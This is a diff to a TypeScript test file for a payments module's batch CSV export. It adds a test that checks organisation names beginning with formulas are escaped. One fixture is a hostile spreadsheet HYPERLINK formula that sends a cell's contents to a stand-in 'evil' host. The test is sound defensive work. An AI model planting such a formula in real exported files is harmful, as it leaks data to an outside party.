@@ -8,7 +8,15 @@ import type { Actor } from "../actor.ts";
 import { checkLedger } from "../budget/reports.server.ts";
 import { DomainError } from "../errors.ts";
 import { amsterdamDate } from "../time/index.ts";
-import { approveBatch, cancelBatch, duePayments, getBatch, prepareBatch } from "./batches.server.ts";
+import {
+  approveBatch,
+  type BatchDetail,
+  type BatchPayment,
+  cancelBatch,
+  duePayments,
+  getBatch,
+  prepareBatch,
+} from "./batches.server.ts";
 import { batchCsv } from "./csv.server.ts";
 import { decideIbanChange, requestIbanChange } from "./iban.server.ts";
 import { checkIban } from "./iban.ts";
@@ -181,5 +189,48 @@ describe("payments", () => {
     const stale = await errorOf(approveBatch(financeB, second.id));
     expect(stale.code).toBe("STALE_BATCH");
     expect(await prisma.ledgerEntry.count({ where: { planId, kind: "DISBURSEMENT" } })).toBe(0);
+  });
+});
+
+describe("the batch CSV", () => {
+  const payment = (over: Partial<BatchPayment>): BatchPayment => ({
+    id: "p",
+    reference: "SP-2025-0001-V1",
+    planId: "plan",
+    planReference: "SP-2025-0001",
+    kind: "ADVANCE",
+    sequence: 1,
+    description: "Voorschot 1 sectorplan SP-2025-0001",
+    dueOn: "2025-03-01",
+    amountCents: 30_000_000n,
+    status: "IN_BATCH",
+    iban: "NL91ABNA0417164300",
+    payeeName: "Stichting Opleiding",
+    ...over,
+  });
+  const batch = (payments: BatchPayment[]): BatchDetail => ({
+    id: "b",
+    reference: "B-2025-0001",
+    status: "PREPARED",
+    executionDate: "2025-03-01",
+    totalCents: payments.reduce((sum, p) => sum + p.amountCents, 0n),
+    count: payments.length,
+    preparedById: "u",
+    preparedBy: "Financiën",
+    preparedAt: new Date(0),
+    approvedBy: null,
+    approvedAt: null,
+    payments,
+  });
+
+  it("defuses a formula in the organisation name and keeps a negative amount a number", () => {
+    const hostile = '=HYPERLINK("https://evil/?"&A1,"x")';
+    const csv = batchCsv(
+      batch([payment({ payeeName: hostile }), payment({ payeeName: "@SUM(1+1)", amountCents: -10_000n })]),
+    );
+    const records = parse(csv, { columns: true, delimiter: ";" }) as Record<string, string>[];
+    expect(records.map((r) => r.organisatie)).toEqual([`'${hostile}`, "'@SUM(1+1)"]);
+    expect(records.map((r) => r.bedrag)).toEqual(["300000,00", "-100,00"]);
+    expect(records[0]?.iban).toBe("NL91ABNA0417164300");
   });
 });
